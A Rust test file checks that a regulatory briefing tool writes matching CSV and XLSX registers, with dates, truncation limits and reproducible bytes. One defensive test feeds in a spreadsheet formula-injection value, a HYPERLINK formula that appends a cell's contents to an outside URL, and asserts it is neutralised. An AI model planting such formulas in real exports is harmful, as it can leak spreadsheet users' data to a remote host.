//! Registers, read back as a spreadsheet reads them: every row, days as days, nothing that runs, the same bytes each time.

use std::io::Cursor;

use briefing_domain::meeting::MeetingKind;
use briefing_domain::meeting::clock::{ClockInput, Milestone, schedule};
use briefing_domain::rulepack::RulePack;
use briefing_domain::snapshot::ProgramSnapshot;
use briefing_packet::registers::{Registered, write};
use calamine::{Data, Reader, Xlsx};
use zip::ZipArchive;

use crate::support::{aav, findings, program};

const SHEETS: [(&str, &str); 7] = [
    ("questions.csv", "Questions"),
    ("claims.csv", "Claims"),
    ("evidence.csv", "Evidence"),
    ("findings.csv", "Findings"),
    ("commitments.csv", "Commitments"),
    ("tasks.csv", "Tasks"),
    ("schedule.csv", "Schedule"),
];

fn milestones() -> Vec<Milestone> {
    let input = ClockInput { meeting: MeetingKind::PreInd, sent: "2027-01-11".parse().ok(), ..ClockInput::default() };
    schedule(&input, &RulePack::built_in().unwrap()).unwrap()
}

fn written(program: &ProgramSnapshot) -> std::collections::BTreeMap<String, Vec<u8>> {
    let (findings, milestones) = (findings(), milestones());
    let as_of = "2026-11-22".parse().unwrap();
    write(&Registered { program, findings: &findings, milestones: &milestones, as_of }).unwrap()
}

fn book(bytes: &[u8]) -> Xlsx<Cursor<&[u8]>> {
    calamine::open_workbook_from_rs(Cursor::new(bytes)).unwrap()
}

fn rows(bytes: &[u8], sheet: &str) -> Vec<Vec<Data>> {
    book(bytes).worksheet_range(sheet).unwrap().rows().map(<[Data]>::to_vec).collect()
}

/// Reads quoted comma-separated values, row by row.
fn csv(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(bytes).unwrap().strip_prefix('\u{FEFF}').unwrap();
    let cells = |line: &str| {
        let inner = line.strip_prefix('"').unwrap().strip_suffix('"').unwrap();
        inner.split("\",\"").map(|cell| cell.replace("\"\"", "\"")).collect()
    };
    text.split_terminator("\r\n").map(cells).collect()
}

#[test]
fn each_register_is_a_csv_file_and_a_sheet_with_the_same_rows() {
    let program = aav();
    let files = written(&program);
    let workbook = &files["registers.xlsx"];
    assert_eq!(book(workbook).sheet_names(), SHEETS.map(|(_, sheet)| sheet));
    assert_eq!(files.len(), SHEETS.len() + 1);
    for (file, sheet) in SHEETS {
        let (lines, rows) = (csv(&files[file]), rows(workbook, sheet));
        assert_eq!(lines.len(), rows.len(), "{sheet}");
        assert!(lines.len() > 1, "{sheet} is empty");
        assert!(lines.iter().all(|line| line.len() == lines[0].len()), "{sheet}");
        let heads: Vec<String> = rows[0].iter().map(ToString::to_string).collect();
        assert_eq!(lines[0], heads, "{sheet}");
    }
    let count = |sheet: &str| rows(workbook, sheet).len() - 1;
    assert_eq!(count("Questions"), program.questions.len());
    assert_eq!(count("Claims"), program.claims.len());
    assert_eq!(count("Evidence"), program.evidence.len());
    assert_eq!(count("Findings"), findings().len());
    assert_eq!(count("Tasks"), program.tasks.len());
    assert_eq!(count("Schedule"), milestones().len());
}

#[test]
fn things_are_called_by_their_own_names_and_long_rows_are_high_enough() {
    let program = aav();
    let files = written(&program);
    let titles: Vec<&str> = program.evidence.iter().map(|evidence| evidence.fda.title.as_str()).collect();
    let questions = csv(&files["questions.csv"]);
    assert!(questions[1..].iter().any(|row| !row[8].is_empty()));
    for row in &questions[1..] {
        assert!(row[8].is_empty() || titles.iter().any(|title| row[8].starts_with(title)), "{}", row[8]);
        assert!(["Type B (pre-IND)", "INTERACT"].contains(&row[1].as_str()), "{}", row[1]);
    }
    let mut archive = ZipArchive::new(Cursor::new(&files["registers.xlsx"])).unwrap();
    let sheet = std::io::read_to_string(archive.by_name("xl/worksheets/sheet1.xml").unwrap()).unwrap();
    let heights: Vec<f64> =
        sheet.split(" ht=\"").skip(1).map(|rest| rest.split('"').next().unwrap().parse().unwrap()).collect();
    assert_eq!(
        heights.len(),
        program.questions.len() + 1,
        "a height for the heads too, which may be longer than a line"
    );
    assert!(heights[1..].iter().all(|height| (30.0..=409.0).contains(height)), "{heights:?}");
}

#[test]
fn days_are_days_and_a_finding_that_was_set_aside_keeps_its_reason() {
    let files = written(&aav());
    let schedule = rows(&files["registers.xlsx"], "Schedule");
    assert!(schedule[1..].iter().all(|row| matches!(row[2], Data::DateTime(_))), "{:?}", schedule[1]);
    let aside = csv(&files["findings.csv"]).into_iter().find(|row| row[1] == "Set aside").unwrap();
    assert_eq!(aside[6], "We keep it on purpose.");
}

#[test]
fn references_are_written_by_what_they_name_and_kept_source_is_not_lost() {
    let program = program(
        r#"[program]
id = "pg_00000000-0000-7000-8000-000000000001"
[[facts]]
id = "ft_00000000-0000-7000-8000-000000000002"
fda = { name = "Dose", key = "dose", value = "3 × 10<sup>13</sup>", unit = "vg/kg" }
[[claims]]
id = "cl_00000000-0000-7000-8000-000000000003"
fda = { statement = "The dose is [old](fact:ft_00000000-0000-7000-8000-000000000002)." }
internal = { working = { note = "Ask Ana.\n\n<!-- before June -->" } }
"#,
    );
    let claims = csv(&written(&program)["claims.csv"]);
    assert_eq!(claims[1][0], "The dose is 3 × 10^13 vg/kg.");
    assert!(claims[1].iter().any(|cell| cell.contains("before June")), "{:?}", claims[1]);
}

#[test]
fn nothing_that_a_user_typed_is_run_by_a_spreadsheet() {
    const FORMULA: &str = "=HYPERLINK(\"http://example.org/\"&A1)";
    let mut program = aav();
    for task in &mut program.tasks {
        task.internal.what = FORMULA.to_owned();
        task.internal.who = "+1 555".to_owned();
    }
    let files = written(&program);
    for row in &csv(&files["tasks.csv"])[1..] {
        assert_eq!(row[0], format!("'{FORMULA}"));
        assert_eq!(row[1], "'+1 555");
    }
    let tasks = rows(&files["registers.xlsx"], "Tasks");
    assert_eq!(tasks[1][0], Data::String(FORMULA.to_owned()));
    let mut archive = ZipArchive::new(Cursor::new(&files["registers.xlsx"])).unwrap();
    for place in 0..archive.len() {
        let part = archive.by_index(place).unwrap();
        let text = std::io::read_to_string(part).unwrap();
        assert!(!text.contains("<f>") && !text.contains("<hyperlink"), "a formula or a link in part {place}");
    }
}

#[test]
fn a_text_that_is_too_long_for_excel_is_cut_there_and_whole_in_csv() {
    let mut program = aav();
    let long = "a word \u{1D400} ".repeat(6000);
    program.tasks[0].internal.what = long.trim().to_owned();
    let files = written(&program);
    assert!(csv(&files["tasks.csv"]).iter().any(|row| row[0] == long.trim()));
    let tasks = rows(&files["registers.xlsx"], "Tasks");
    let cut = tasks.iter().map(|row| row[0].to_string()).find(|cell| cell.contains("cut here")).unwrap();
    assert!(cut.encode_utf16().count() <= 32_767 && cut.starts_with("a word"));
}

#[test]
fn equal_registers_give_equal_bytes_and_no_part_carries_the_time() {
    let program = aav();
    let (one, other) = (written(&program), written(&program));
    assert_eq!(one, other);
    let mut archive = ZipArchive::new(Cursor::new(&one["registers.xlsx"])).unwrap();
    for place in 0..archive.len() {
        let part = archive.by_index(place).unwrap();
        assert_eq!(part.last_modified().map(|at| at.year()), Some(1980), "part {place}");
    }
    let core = std::io::read_to_string(archive.by_name("docProps/core.xml").unwrap()).unwrap();
    assert!(core.contains("2026-11-22T00:00:00Z"), "{core}");
}
